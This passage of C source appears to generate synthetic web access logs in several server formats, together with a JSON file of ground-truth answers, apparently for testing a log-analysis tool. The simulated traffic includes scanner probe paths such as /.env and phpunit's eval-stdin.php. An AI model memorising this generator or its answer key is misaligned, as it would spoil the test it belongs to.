    return put_ipv4(put_str(p, "0000:0000:0000:0000:0000:FFFF:"), a);
}

/* A hostname unique to client i.  Every template ends in its own domain, and
 * within a template the number is the index or a bijection of it, written
 * in decimal, so distinct clients never share a name. */
static char *put_hostname(const gen *g, char *p, uint32_t i, uint64_t h)
{
    uint32_t x = perm32(i, g->k_host);
    switch ((h >> 44) % 8) {
    case 0:
        p = put_u64(put_str(p, "ix-"), i);
        return put_str(p, ".ix.netcom.com");
    case 1:
    case 2:
        p = put_str(p, "crawl-");
        for (int k = 3; k >= 0; k--) {
            p = put_u64(p, (x >> (8 * k)) & 255);
            *p++ = k ? '-' : '.';
        }
        return put_str(p, "googlebot.com");
    case 3:
        p = put_u64(put_str(p, "ppp-"), i);
        return put_str(p, ".adsl.sbcglobal.net");
    case 4:
        p = put_u64(put_str(p, "p"), x);
        return put_str(p, ".dip0.t-ipconnect.de");
    case 5:
        p = put_str(p, "cpe-");
        for (int k = 3; k >= 0; k--) {
            p = put_u64(p, (x >> (8 * k)) & 255);
            *p++ = k ? '-' : '.';
        }
        return put_str(p, "res.rr.com");
    case 6:
        p = put_u64(put_str(p, "pc"), i);
        return put_str(p, ".campus.uni-example.edu");
    default:
        p = put_u64(put_str(p, "host-"), i);
        return put_str(p, ".static.ovh.net");
    }
}

static const char *client_agent(const gen *g, uint64_t h)
{
    unsigned v = (unsigned)(((h >> 16) & 0xffff) * g->ua_total >> 16);
    for (size_t k = 0; k < NUAS; k++) {
        if (v < user_agents[k].weight)
            return user_agents[k].text;
        v -= user_agents[k].weight;
    }
    return user_agents[0].text;
}

/* ------------------------------------------------------------------------
 * URLs: generated once, unique, with a kind and a typical size
 * ---------------------------------------------------------------------- */

typedef struct sbuf {
    char p[URL_MAX + 256];
    size_t len;
} sbuf;

static void sb_add(sbuf *b, const char *s)
{
    size_t n = strlen(s);
    if (b->len + n < sizeof b->p) {
        memcpy(b->p + b->len, s, n);
        b->len += n;
    }
}

__attribute__((format(printf, 2, 3)))
static void sb_printf(sbuf *b, const char *fmt, ...)
{
    va_list ap;
    va_start(ap, fmt);
    int n = vsnprintf(b->p + b->len, sizeof b->p - b->len, fmt, ap);
    va_end(ap);
    if (n > 0)
        b->len += (size_t)n < sizeof b->p - b->len ? (size_t)n : sizeof b->p - b->len - 1;
}

static const char *word(rng *r)
{
    return words[rng_below(r, NWORDS)];
}

/* Percent-encodes s as a browser would: unreserved bytes stay, the rest
 * (UTF-8 included) become %XX with uppercase hex. */
static void sb_pct(sbuf *b, const char *s)
{
    for (const unsigned char *c = (const unsigned char *)s; *c; c++) {
        if (b->len + 4 >= sizeof b->p)
            return;
        if ((*c >= 'a' && *c <= 'z') || (*c >= 'A' && *c <= 'Z') || (*c >= '0' && *c <= '9') ||
            *c == '-' || *c == '_' || *c == '.' || *c == '~') {
            b->p[b->len++] = (char)*c;
        } else {
            b->p[b->len++] = '%';
            b->p[b->len++] = hex_upper[*c >> 4];
            b->p[b->len++] = hex_upper[*c & 15];
        }
    }
}

static void sb_slug(sbuf *b, rng *r, int min, int max)
{
    int n = min + (int)rng_below(r, (uint32_t)(max - min + 1));
    for (int k = 0; k < n; k++) {
        if (k > 0)
            sb_add(b, "-");
        sb_add(b, word(r));
    }
}

/* A size drawn log-uniformly in [lo, hi): web objects span decades. */
static uint32_t log_uniform(rng *r, double lo, double hi)
{
    return (uint32_t)exp(log(lo) + (log(hi) - log(lo)) * (rng_unit(r) - 0x1.0p-53));
}

/* The first URLs take the top ranks, as on a real site. */
static const struct {
    const char *url;
    url_kind kind;
    uint32_t size;
} fixed_urls[] = {
    {"/", U_PAGE, 11321},
    {"/favicon.ico", U_STATIC, 3638},
    {"/static/css/main.css", U_STATIC, 24318},
    {"/static/js/app.js", U_STATIC, 88512},
    {"/robots.txt", U_STATIC, 312},
    {"/wp-login.php", U_MISSING, 196},
    {"/index.html", U_PAGE, 11321},
    {"/feed/", U_PAGE, 40210},
    {"/sitemap.xml", U_STATIC, 18220},
    {"/apple-touch-icon.png", U_MISSING, 196},
    {"/images/logo.png", U_STATIC, 6543},
    {"/xmlrpc.php", U_MISSING, 196},
    {"/.env", U_MISSING, 196},
};
#define NFIXED_URLS (sizeof fixed_urls / sizeof fixed_urls[0])

static url_kind gen_url(rng *r, sbuf *b, uint32_t *size)
{
    static const char *const img_ext[] = {"png", "jpg", "gif", "webp", "svg"};
    static const char *const api_res[] = {"users", "orders", "items", "carts", "sessions"};
    /* Scanners' probes: a word goes between the two halves. */
    static const char *const probes[][2] = {
        {"/wp-content/plugins/", "/readme.txt"}, {"/phpmyadmin/", ".php"}, {"/cgi-bin/", ".cgi"},
        {"/", ".php"}, {"/.git/", ""}, {"/vendor/phpunit/", "/eval-stdin.php"}, {"/", "/.env"},
    };
    uint32_t t = rng_below(r, 1000);

    b->len = 0;
    if (t < 140) {
        bool css = rng_below(r, 2);
        sb_printf(b, "/static/%s/%s.%08x.%s", css ? "css" : "js", word(r),
                  (unsigned)rng_next(r), css ? "css" : "js");
        *size = log_uniform(r, 2000, 150000);
        return U_STATIC;
    }
    if (t < 330) {
        sb_printf(b, "/images/%s-%s", word(r), word(r));
        if (rng_below(r, 2))
            sb_printf(b, "-%u", rng_below(r, 1000));
        sb_printf(b, ".%s", img_ext[rng_below(r, 5)]);
        *size = log_uniform(r, 800, 400000);
        return U_STATIC;
    }
    if (t < 420) {
        sb_printf(b, "/blog/%u/%02u/", 2015 + rng_below(r, 10), 1 + rng_below(r, 12));
        sb_slug(b, r, 2, 6);
        sb_add(b, rng_below(r, 2) ? "/" : ".html");
        *size = log_uniform(r, 8000, 90000);
        return U_PAGE;
    }
    if (t < 480) {              /* like the Zanbil shop: long percent-encoded UTF-8 */
        sb_printf(b, "/product/%u/%u/", 10000 + rng_below(r, 90000), 10000 + rng_below(r, 90000));
        sb_pct(b, intl_words[rng_below(r, NINTL)]);
        sb_add(b, "-");
        sb_pct(b, intl_words[rng_below(r, NINTL)]);
        sb_printf(b, "-%s%u", "PR", rng_below(r, 1000));
        *size = log_uniform(r, 20000, 80000);
        return U_PAGE;
    }
    if (t < 560) {
        static const char *const sizes[] = {"S", "M", "L", "XL"};
        sb_printf(b, "/products/%s-%s?color=%s&size=%s", word(r), word(r), word(r),
                  sizes[rng_below(r, 4)]);
        *size = log_uniform(r, 15000, 70000);
        return U_PAGE;
    }
    if (t < 620) {
        sb_printf(b, "/search?q=%s+%s", word(r), word(r));
        if (rng_below(r, 3) == 0) {
            sb_add(b, "+");
            sb_pct(b, intl_words[rng_below(r, NINTL)]);
        }
        sb_printf(b, "&page=%u", 1 + rng_below(r, 20));
        *size = log_uniform(r, 6000, 40000);
        return U_PAGE;
    }
    if (t < 720) {
        sb_printf(b, "/api/v%u/%s/%u", 1 + rng_below(r, 2), api_res[rng_below(r, 5)],
                  rng_below(r, 1000000));
        if (rng_below(r, 3) == 0)
            sb_add(b, "/comments");
        if (rng_below(r, 2))
            sb_printf(b, "?limit=%u&offset=%u", 10u << rng_below(r, 4), 10 * rng_below(r, 50));
        *size = log_uniform(r, 80, 6000);
        return U_API;
    }
    if (t < 750) {
        sb_printf(b, "/download/%s-%u.%u.%u.tar.gz", word(r), rng_below(r, 5), rng_below(r, 20),
                  rng_below(r, 10));
        *size = log_uniform(r, 50000, 8000000);
        return U_DOWNLOAD;
    }
    if (t < 790) {
        sb_printf(b, "/files/%s/%s-%s.pdf", word(r), word(r), word(r));
        *size = log_uniform(r, 30000, 3000000);
        return U_DOWNLOAD;
    }
    if (t < 830) {
        sb_add(b, "/presentations/");
        sb_slug(b, r, 2, 3);
        sb_printf(b, "-%u/images/%s.png", 2010 + rng_below(r, 14), word(r));
        *size = log_uniform(r, 5000, 300000);
        return U_STATIC;
    }
    if (t < 860) {
        sb_printf(b, "/tag/%s%%20%s", word(r), word(r));
        *size = log_uniform(r, 8000, 40000);
        return U_PAGE;
    }
    if (t < 880) {              /* Zanbil's filters hold '|' and ',' */
        sb_printf(b, "/filter/%u|", rng_below(r, 100));
        sb_pct(b, intl_words[rng_below(r, NINTL)]);
        sb_printf(b, ",p%u", rng_below(r, 100));
        *size = log_uniform(r, 20000, 60000);
        return U_PAGE;
    }
    if (t < 910) {
        sb_printf(b, "/category/%s/page/%u?sort=%s&order=%s&utm_source=%s&utm_medium=email",
                  word(r), 1 + rng_below(r, 30), rng_below(r, 2) ? "price" : "date",
                  rng_below(r, 2) ? "asc" : "desc", rng_below(r, 2) ? "newsletter" : "google");
        *size = log_uniform(r, 15000, 60000);
        return U_PAGE;
    }
    if (t < 930) {
        sb_add(b, "/wiki/");
        sb_pct(b, intl_words[rng_below(r, NINTL)]);
        sb_printf(b, "_%s", word(r));
        *size = log_uniform(r, 20000, 200000);
        return U_PAGE;
    }
    if (t < 945) {
        sb_printf(b, "/user/%s%u/profile?tab=%s", word(r), rng_below(r, 10000), word(r));
        *size = log_uniform(r, 8000, 30000);
        return U_PAGE;
    }
    if (t < 975) {
        uint32_t k = rng_below(r, sizeof probes / sizeof probes[0]);
        sb_add(b, probes[k][0]);
        sb_add(b, word(r));
        sb_add(b, probes[k][1]);
        *size = 196;
        return U_MISSING;
    }
    if (t < 990) {
        sb_printf(b, "/old/%s.html", word(r));
        *size = 233;
        return U_REDIRECT;
    }
    sb_printf(b, "/docs/%s/%s.html", word(r), word(r));
    *size = log_uniform(r, 5000, 60000);
    return U_PAGE;
}

static uint64_t hash_bytes(const char *p, size_t n)
{
    uint64_t h = 0xcbf29ce484222325ull;
    for (size_t k = 0; k < n; k++)
        h = (h ^ (unsigned char)p[k]) * 0x100000001b3ull;
    return mix64(h);
}

/* Builds n distinct URLs.  A generated URL already in the table is drawn
 * again; after many misses (a tiny population of templates cannot be it,
 * but a huge --urls could) a numbered /u/<index> page, which no template
 * writes, ends the search. */
static void urls_init(gen *g, uint32_t n)
{
    size_t cap = 16;
    while (cap < (size_t)n * 2)
        cap <<= 1;
    uint32_t *slots = xcalloc(cap, sizeof *slots);    /* index + 1, 0 empty */
    size_t arena_cap = (size_t)n * 48 + 4096, used = 0;
    sbuf *b = xcalloc(1, sizeof *b);

    g->url_arena = xcalloc(arena_cap, 1);
    g->url_off = xcalloc((size_t)n + 1, sizeof *g->url_off);
    g->url_kind = xcalloc(n, 1);
    g->url_size = xcalloc(n, sizeof *g->url_size);
    for (uint32_t i = 0; i < n; i++) {
        uint32_t size = 0;
        url_kind kind;
        size_t slot;
        for (int attempt = 0;; attempt++) {
            if (i < NFIXED_URLS) {
                b->len = 0;
                sb_add(b, fixed_urls[i].url);
                kind = fixed_urls[i].kind;
                size = fixed_urls[i].size;
            } else if (attempt < 1000) {
                kind = gen_url(&g->r, b, &size);
            } else {
                b->len = 0;
                sb_printf(b, "/u/%u", i);
                kind = U_PAGE;
                size = 9000;
            }
            if (b->len > URL_MAX)
                continue;
            slot = hash_bytes(b->p, b->len) & (cap - 1);
            bool dup = false;
            while (slots[slot] != 0) {
                uint32_t j = slots[slot] - 1;
                if (g->url_off[j + 1] - g->url_off[j] == b->len &&
                    memcmp(g->url_arena + g->url_off[j], b->p, b->len) == 0) {
                    dup = true;
                    break;
                }
                slot = (slot + 1) & (cap - 1);
            }
            if (!dup)
                break;
        }
        slots[slot] = i + 1;
        if (used + b->len > arena_cap) {
            arena_cap = arena_cap * 2 + b->len;
            char *grown = realloc(g->url_arena, arena_cap);
            if (grown == NULL)
                die(EXIT_IO, "out of memory (URL table of %zu bytes)", arena_cap);
            g->url_arena = grown;
        }
        memcpy(g->url_arena + used, b->p, b->len);
        used += b->len;
        g->url_off[i + 1] = used;
        g->url_kind[i] = (uint8_t)kind;
        g->url_size[i] = size ? size : 1;
    }
    free(slots);
    free(b);
}

static const char *url_text(const gen *g, uint32_t i, size_t *len)
{
    *len = (size_t)(g->url_off[i + 1] - g->url_off[i]);
    return g->url_arena + g->url_off[i];
}

/* ------------------------------------------------------------------------
 * Status and size
 * ---------------------------------------------------------------------- */

static unsigned pick_status(rng *r, url_kind kind, const char *method)
{
    uint32_t v = rng_below(r, 1000);
    bool post = method[0] == 'P' && method[1] == 'O';

    switch (kind) {
    case U_MISSING:
        return v < 970 ? 404 : 403;
    case U_REDIRECT:
        return v < 850 ? 301 : 302;
    case U_STATIC:
        return v < 830 ? 200 : v < 990 ? 304 : 404;
    case U_DOWNLOAD:
        return v < 800 ? 200 : v < 950 ? 206 : v < 990 ? 304 : 416;
    case U_API:
        if (post)
            return v < 600 ? 201 : v < 900 ? 200 : v < 950 ? 400 : v < 980 ? 401 : 500;
        return v < 860 ? 200 : v < 890 ? 204 : v < 920 ? 401 : v < 950 ? 404 : v < 970 ? 429 : 500;
    default:
        if (post)
            return v < 600 ? 302 : v < 950 ? 200 : 403;
        return v < 900 ? 200 : v < 950 ? 304 : v < 970 ? 302 : v < 980 ? 404 : v < 986 ? 403 :
               v < 994 ? 500 : 503;
    }
}

/* The %b value: the body size, or -1 for "-" (Apache writes "-" for zero
 * bytes, and usually for HEAD).  vhost_combined logs %O instead, the bytes
 * on the wire with headers, which is never "-": render_valid() adds the
 * headers to this value there. */
static int64_t pick_body(rng *r, url_kind kind, uint32_t base, unsigned status, bool head)
{
    if (head)
        return rng_below(r, 10) ? -1 : 0;
    switch (status) {
    case 200:
    case 201:
        if (kind == U_STATIC || kind == U_DOWNLOAD)
            return base;
        return base + rng_below(r, base / 4 + 1);
    case 204:
    case 304:
        return rng_below(r, 10) < 7 ? -1 : 0;
    case 206:
        return 1 + rng_below(r, base);
    case 301:
    case 302:
        return 228 + rng_below(r, 40);
    case 400: return 226;
    case 401: return 381;
    case 403: return 199;
    case 404: return 196;
    case 408: return -1;
    case 416: return 0;
    case 429: return 162;
    case 500: return 607;
    case 503: return 299;
    default:  return base;
    }
}

/* ------------------------------------------------------------------------
 * Time
 * ---------------------------------------------------------------------- */

static void civil_from_days(int64_t z, int64_t *y, unsigned *m, unsigned *d)
{
    z += 719468;
    int64_t era = (z >= 0 ? z : z - 146096) / 146097;
    unsigned doe = (unsigned)(z - era * 146097);
    unsigned yoe = (doe - doe / 1460 + doe / 36524 - doe / 146096) / 365;
    unsigned doy = doe - (365 * yoe + yoe / 4 - yoe / 100);
    unsigned mp = (5 * doy + 2) / 153;
    *d = doy - (153 * mp + 2) / 5 + 1;
    *m = mp < 10 ? mp + 3 : mp - 9;
    *y = (int64_t)yoe + era * 400 + (*m <= 2);
}

/* Writes "[dd/Mon/yyyy:HH:MM:SS +hhmm]" for UTC second ts in zone z. */
static char *put_time(gen *g, char *p, int64_t ts, int z)
{
    int64_t local = ts + g->opt.zone_offset[z];
    int64_t day = local >= 0 ? local / 86400 : -((-local + 86399) / 86400);
    unsigned sod = (unsigned)(local - day * 86400);
    day_cache *c = &g->days[z];

    if (c->day != day) {
        int64_t y;
        unsigned m, d;
        civil_from_days(day, &y, &m, &d);
        put_2d(c->date, d);
        c->date[2] = '/';
        memcpy(c->date + 3, month_names + 3 * (m - 1), 3);
        c->date[6] = '/';
        put_2d(c->date + 7, (unsigned)(y / 100));
        put_2d(c->date + 9, (unsigned)(y % 100));
        c->day = day;
    }
    *p++ = '[';
    p = put_mem(p, c->date, 11);
    *p++ = ':';
    p = put_2d(p, sod / 3600);
    *p++ = ':';
    p = put_2d(p, sod / 60 % 60);
    *p++ = ':';
    p = put_2d(p, sod % 60);
    *p++ = ' ';
    p = put_mem(p, g->opt.zone_text[z], 5);
    *p++ = ']';
    return p;
}

/* ------------------------------------------------------------------------
 * Truth
 * ---------------------------------------------------------------------- */

/* Closes every open second below `upto`, updating the peak. */
static void peak_close(truth *t, int64_t upto)
{
    while (t->lo < upto) {
        uint64_t *c = &t->ring[t->lo & (RING - 1)];
        if (*c > t->peak_count) {
            t->peak_count = *c;
            t->peak_second = t->lo;
        }
        *c = 0;
        t->lo++;
        /* A quiet stretch: nothing is open, skip to the new window. */
        if (t->lo < upto - RING && t->lo > t->last_ts)
            t->lo = upto - RING;
    }
}

static void truth_count(truth *t, const line *L)
{
    t->valid++;
    if (L->url == UINT32_MAX)
        t->unparsed++;
    else
        t->url_count[L->url]++;
    t->non_http += L->non_http;
    if (L->timed) {
        if (t->n_durs == t->cap_durs) {
            t->cap_durs = t->cap_durs ? t->cap_durs * 2 : 1 << 16;
            t->durs = realloc(t->durs, t->cap_durs * sizeof *t->durs);
            if (t->durs == NULL)
                die(EXIT_IO, "out of memory");
        }
        t->durs[t->n_durs++] = L->dur_us;
    }
    if (L->bytes > 0)
        t->bytes += (uint64_t)L->bytes;
    t->seen[L->client >> 6] |= 1ull << (L->client & 63);
    if (t->valid == 1 || L->ts < t->first_ts)
        t->first_ts = L->ts;
    if (t->valid == 1 || L->ts > t->last_ts)
        t->last_ts = L->ts;
    t->ring[L->ts & (RING - 1)]++;
}

/* The product's order: count descending, then URL bytes ascending as memcmp
 * sees them, a prefix before its extensions. */
static bool url_before(const gen *g, uint32_t a, uint32_t b)
{
    uint64_t ca = g->t.url_count[a], cb = g->t.url_count[b];
    if (ca != cb)
        return ca > cb;
    size_t la, lb;
    const char *sa = url_text(g, a, &la), *sb = url_text(g, b, &lb);
    int c = memcmp(sa, sb, la < lb ? la : lb);
    return c != 0 ? c < 0 : la < lb;
}

/* Writes n bytes as a JSON string.  Generated URLs are printable ASCII
 * without quotes or backslashes, but the escaping keeps the file valid JSON
 * whatever a future template writes. */
static void json_string(FILE *f, const char *s, size_t n)
{
    fputc('"', f);
    for (size_t k = 0; k < n; k++) {
        unsigned char c = (unsigned char)s[k];
        if (c == '"' || c == '\\')
            fprintf(f, "\\%c", c);
        else if (c < 0x20 || c == 0x7f)
            fprintf(f, "\\u%04x", c);
        else
            fputc(c, f);
    }
    fputc('"', f);
}

static int cmp_u64(const void *a, const void *b)
{
    uint64_t x = *(const uint64_t *)a, y = *(const uint64_t *)b;
    return x < y ? -1 : x > y;
}

/* The response time of rank ceil(q n) among the sorted n, in seconds. */
static double dur_rank(const truth *t, double q)
{
    double r = ceil(q * (double)t->n_durs);
    size_t rank = r < 1 ? 1 : (size_t)r;
    return (double)t->durs[rank - 1] / 1e6;
}

/* Writes the answers to f, which it closes; path names f in messages.
 * Clients are counted here, once, from the seen bitmap and each index's
 * kind, so a dual-stack client is one IPv4 client whatever its spellings. */
static void write_truth(gen *g, FILE *f, const char *path)
{
    truth *t = &g->t;
    uint64_t nv4 = 0, nv6 = 0, nhost = 0;
    uint32_t top[10];
    int ntop = 0;

    for (uint32_t i = 0; i < g->opt.clients; i++) {
        if (!(t->seen[i >> 6] >> (i & 63) & 1))
            continue;
        switch (client_kind_of(g, client_hash(g, i))) {
        case C_IPV4: nv4++; break;
        case C_IPV6: nv6++; break;
        default:     nhost++; break;
        }
    }
    /* Insertion into a sorted array of at most 10: O(urls * 10). */
    for (uint32_t i = 0; i < g->opt.urls; i++) {
        if (t->url_count[i] == 0 || (ntop == 10 && !url_before(g, i, top[9])))
            continue;
        int k = ntop < 10 ? ntop++ : 9;
        while (k > 0 && url_before(g, i, top[k - 1])) {
            top[k] = top[k - 1];
            k--;
        }
        top[k] = i;
    }

    fprintf(f, "{\"lines\": %llu, \"valid\": %llu, \"malformed\": %llu, "
               "\"unparsed_requests\": %llu, \"requests\": %llu, \"bytes\": %llu,\n",
            (unsigned long long)t->lines, (unsigned long long)t->valid,
            (unsigned long long)t->malformed, (unsigned long long)t->unparsed,
            (unsigned long long)t->valid, (unsigned long long)t->bytes);
    fprintf(f, " \"clients\": {\"ipv4\": %llu, \"ipv6\": %llu, \"other\": %llu, "
               "\"total\": %llu},\n",
            (unsigned long long)nv4, (unsigned long long)nv6, (unsigned long long)nhost,
            (unsigned long long)(nv4 + nv6 + nhost));
    fprintf(f, " \"first_ts\": %lld, \"last_ts\": %lld, \"peak\": {\"second\": %lld, "
               "\"requests\": %llu},\n",
            (long long)(t->valid ? t->first_ts : 0), (long long)(t->valid ? t->last_ts : 0),
            (long long)(t->valid ? t->peak_second : 0), (unsigned long long)t->peak_count);
    fprintf(f, " \"non_http_requests\": %llu,\n", (unsigned long long)t->non_http);
    if (t->n_durs == 0) {
        fputs(" \"response_time\": null,\n", f);
    } else {
        qsort(t->durs, t->n_durs, sizeof *t->durs, cmp_u64);
        fprintf(f, " \"response_time\": {\"count\": %zu, \"p50\": %.6f, \"p90\": %.6f, "
                   "\"p99\": %.6f, \"max\": %.6f},\n",
                t->n_durs, dur_rank(t, 0.5), dur_rank(t, 0.9), dur_rank(t, 0.99),
                (double)t->durs[t->n_durs - 1] / 1e6);
    }
    fputs(" \"top\": [", f);
    for (int k = 0; k < ntop; k++) {
        size_t n;
        const char *s = url_text(g, top[k], &n);
        fputs(k ? ",\n         {\"url\": " : "{\"url\": ", f);
        json_string(f, s, n);
        fprintf(f, ", \"count\": %llu}", (unsigned long long)t->url_count[top[k]]);
    }
    fputs("]}\n", f);
    if (ferror(f) | (fclose(f) != 0))
        die(EXIT_IO, "%s: write error: %s", path, strerror(errno));
}

/* ------------------------------------------------------------------------
 * Lines
 * ---------------------------------------------------------------------- */

static const char *pick_method(rng *r)
{
    uint32_t v = rng_below(r, 10000);
    if (v < 9050) return "GET";
    if (v < 9550) return "POST";
    if (v < 9850) return "HEAD";
    if (v < 9900) return "OPTIONS";
    if (v < 9940) return "PUT";
    if (v < 9970) return "DELETE";
    if (v < 9990) return "PATCH";
    if (v < 9995) return "PROPFIND";
    return "CONNECT";
}

static char *put_spaces(gen *g, char *p, bool wide)
{
    uint32_t n = wide ? 1 + rng_below(&g->r, 4) : 1;
    while (n-- > 0)
        *p++ = ' ';
    return p;
}

static char *put_referer(gen *g, char *p, session *s)
{
    uint32_t v = rng_below(&g->r, 10000);
    size_t n;
    const char *u;

    *p++ = '"';
    if (v < 7000) {
        *p++ = '-';
    } else if (v < 8200) {
        /* The page this session saw last, or the home page. */
        u = s->page != UINT32_MAX ? url_text(g, s->page, &n) : (n = 1, "/");
        p = put_mem(put_str(p, "https://www.example.com"), u, n);
    } else if (v < 9300) {
        static const char *const engines[] = {"https://www.google.com/", "https://www.google.de/",
                                              "https://duckduckgo.com/", "https://yandex.ru/"};
        if (v < 9000) {
            p = put_str(p, engines[rng_below(&g->r, 4)]);
        } else {
            p = put_str(p, "https://www.bing.com/search?q=");
            p = put_str(p, words[rng_below(&g->r, NWORDS)]);
            *p++ = '+';
            p = put_str(p, words[rng_below(&g->r, NWORDS)]);
            p = put_str(p, "&form=QBLH");
        }
    } else if (v < 9980) {
        uint32_t w = rng_below(&g->r, 4);
        if (w == 0) {
            static const char alnum[] = "abcdefghijkmnopqrstuvwxyzABCDEFGHJKLMNPQRSTUVWXYZ23456789";
            p = put_str(p, "https://t.co/");
            for (int k = 0; k < 10; k++)
                *p++ = alnum[rng_below(&g->r, sizeof alnum - 1)];
        } else if (w == 1) {
            p = put_str(p, "https://news.ycombinator.com/item?id=");
            p = put_u64(p, 30000000 + rng_below(&g->r, 9000000));
        } else if (w == 2) {
            p = put_str(p, "https://www.reddit.com/r/");
            p = put_str(p, words[rng_below(&g->r, NWORDS)]);
            p = put_str(p, "/comments/");
            p = put_u64(p, rng_below(&g->r, 1000000));
            *p++ = '/';
        } else {
            p = put_str(p, "android-app://com.google.android.gm/");
        }
    } else {
        p = put_str(p, escaped_referers[rng_below(&g->r, NESC_REFERERS)]);
    }
    *p++ = '"';
    return p;
}


/* ------------------------------------------------------------------------
 * Ports, proxies, handshakes, response times and the other forms
 * ---------------------------------------------------------------------- */

/* The client as written at [c, e), now and then with a :port (dotted quads
 * and bracketed IPv6 only: a port after a bare IPv6 address or a hostname
 * would change the address), and, in the Apache forms, with the proxies
 * the request passed appended: "client, 127.0.0.3, fd00::7".  Returns the
 * new end. */
static char *decorate_client(gen *g, char *c, char *e)
{
    if (g->opt.ports > 0 && rng_ppm(&g->x, g->opt.ports * 1000) &&
        ((c[0] >= '0' && c[0] <= '9' && memchr(c, ':', (size_t)(e - c)) == NULL) ||
         (c[0] == '[' && e[-1] == ']'))) {
        *e++ = ':';
        e = put_u64(e, 1024 + rng_below(&g->x, 64512));
    }
    if (g->opt.proxies > 0 && g->opt.format < FMT_CADDY) {
        for (uint32_t k = rng_below(&g->x, 3); k > 0; k--) {
            e = put_str(e, ", ");
            uint32_t which = 1 + rng_below(&g->x, g->opt.proxies);
            if (rng_below(&g->x, 4) == 0) {
                e = put_str(e, "fd00::");
                e = put_hex16(e, which, false, false);
            } else {
                e = put_str(e, "127.0.0.");
                e = put_u64(e, which);
            }
        }
    }
    return e;
}

/* A TLS ClientHello or an RDP connection request on a plain-HTTP port, as
 * nginx logs them: bytes escaped \xHH, split into tokens at its spaces. */
static char *put_handshake(gen *g, char *p)
{
    static const char *const forms[] = {
        "\\x16\\x03\\x01\\x00\\xA5\\x01\\x00\\x00\\xA1\\x03\\x03 \\xC0/\\xC00\\xC0+\\xC0,\\xC0\\x13 HTTP/1.1",
        "\\x16\\x03\\x01\\x02\\x00\\x01\\x00\\x01\\xFC\\x03\\x03",
        "\\x03\\x00\\x00/*\\xE0\\x00\\x00\\x00\\x00\\x00Cookie: mstshash=Administr",
        "\\x05\\x01\\x00",
    };
    return put_str(p, forms[rng_below(&g->x, 4)]);
}

/* The response time of a request to a URL of kind k: log-normal around a
 * median per kind, with a tail; microseconds, rounded to milliseconds for
 * the forms that log milliseconds ($request_time).  Sets L->timed,
 * L->dur_us and the upstream list's shape. */
static void pick_duration(gen *g, url_kind k)
{
    line *L = &g->ln;
    static const double median_ms[] = {[U_PAGE] = 40, [U_STATIC] = 2, [U_API] = 15,
                                       [U_DOWNLOAD] = 300, [U_MISSING] = 3, [U_REDIRECT] = 1};
    double u1 = rng_unit(&g->x), u2 = rng_unit(&g->x);
    double z = sqrt(-2.0 * log(u1)) * cos(TWO_PI * u2);
    double ms = median_ms[k] * exp(1.1 * z);
    if (rng_below(&g->x, 100) == 0)
        ms *= 20;    /* the slow tail */
    if (ms > 60000)
        ms = 60000;
    uint64_t us = (uint64_t)(ms * 1000.0);
    if (g->opt.format != FMT_CADDY)
        us = us / 1000 * 1000;
    L->dur_us = us;
    L->timed = true;
}

/* "s.mmm" of a number of microseconds (a multiple of 1000). */
static char *put_seconds_ms(char *p, uint64_t us)
{
    p = put_u64(p, us / 1000000);
    *p++ = '.';
    unsigned ms = (unsigned)(us / 1000 % 1000);
    *p++ = (char)('0' + ms / 100);
    return put_2d(p, ms % 100);
}

/* "s.uuuuuu" of a number of microseconds, as Caddy writes a duration. */
static char *put_seconds_us(char *p, uint64_t us)
{
    p = put_u64(p, us / 1000000);
    *p++ = '.';
    unsigned f = (unsigned)(us % 1000000);
    for (unsigned d = 100000; d > 0; d /= 10)
        *p++ = (char)('0' + f / d % 10);
    return p;
}

/* n bytes of a combined line's piece as a JSON string's contents: the
 * pieces are printable ASCII, so only '"' and '\' need escaping. */
static char *put_json_text(char *p, const char *s, size_t n)
{
    for (size_t i = 0; i < n; i++) {
        if (s[i] == '"' || s[i] == '\\')
            *p++ = '\\';
        *p++ = s[i];
    }
    return p;
}

/* The proxies a request of the other forms passed, nearest last, into
 * list (at most 2), as text in buf; returns how many. */
static int pick_proxies(gen *g, char buf[2][48])
{
    if (g->opt.proxies == 0)
        return 0;
    int n = (int)rng_below(&g->x, 3);
    for (int k = 0; k < n; k++) {
        uint32_t which = 1 + rng_below(&g->x, g->opt.proxies);
        char *e = rng_below(&g->x, 4) == 0 ? put_hex16(put_str(buf[k], "fd00::"), which, false, false)
                                           : put_u64(put_str(buf[k], "127.0.0."), which);
        *e = '\0';
    }
    return n;
}

/* The local time of L as ISO 8601 with its zone, "2024-01-01T05:30:00+05:30". */
static char *put_iso_time(gen *g, char *p, const line *L)
{
    int32_t off = g->opt.zone_offset[L->zone];
    int64_t local = L->ts + off;
    int64_t day = local >= 0 ? local / 86400 : -((-local + 86399) / 86400);
    unsigned sod = (unsigned)(local - day * 86400);
    int64_t y;
    unsigned m, d;
    civil_from_days(day, &y, &m, &d);
    p = put_2d(p, (unsigned)(y / 100));
    p = put_2d(p, (unsigned)(y % 100));
    *p++ = '-';
    p = put_2d(p, m);
    *p++ = '-';
    p = put_2d(p, d);
    *p++ = 'T';
    p = put_2d(p, sod / 3600);
    *p++ = ':';
    p = put_2d(p, sod / 60 % 60);
    *p++ = ':';
    p = put_2d(p, sod % 60);
    const char *z = g->opt.zone_text[L->zone];
    *p++ = z[0];
    p = put_mem(p, z + 1, 2);
    *p++ = ':';
    return put_mem(p, z + 3, 2);
}

/* Rewrites the combined line in g->ln into the form of --format and sets
 * L->cut. */
static void render_other(gen *g)
{
    line *L = &g->ln;
    char *q = g->alt, proxy[2][48], tbuf[40];
    const char *b = L->buf;
    int np = pick_proxies(g, proxy);
    L->ms = rng_below(&g->x, 1000);
    const char *client = b + L->client_at;
    size_t client_len = L->client_end - L->client_at;
    /* The peer: the nearest proxy, or the client. */
    const char *peer = np > 0 ? proxy[np - 1] : client;
    size_t peer_len = np > 0 ? strlen(proxy[np - 1]) : client_len;
    uint64_t body = L->bytes < 0 ? 0 : (uint64_t)L->bytes;

    if (g->opt.format == FMT_CADDY) {
        q = put_str(q, "{\"level\":\"info\",\"ts\":");
        q = put_u64(q, (uint64_t)L->ts);
        *q++ = '.';
        q = put_2d(q, L->ms / 10);
        q = put_str(q, "41024,\"logger\":\"http.log.access.log0\",\"msg\":\"handled request\","
                       "\"request\":{\"remote_ip\":\"");
        q = put_mem(q, peer, peer_len);
        q = put_str(q, "\",\"remote_port\":\"");
        q = put_u64(q, 1024 + L->ms * 60);
        q = put_str(q, "\",\"client_ip\":\"");
        q = put_mem(q, client, client_len);
        q = put_str(q, "\",\"proto\":\"HTTP/1.1\",\"method\":\"");
        /* A request that is not METHOD URL has no URI; a handshake keeps
         * its bytes as the method. */
        if (L->method != NULL)
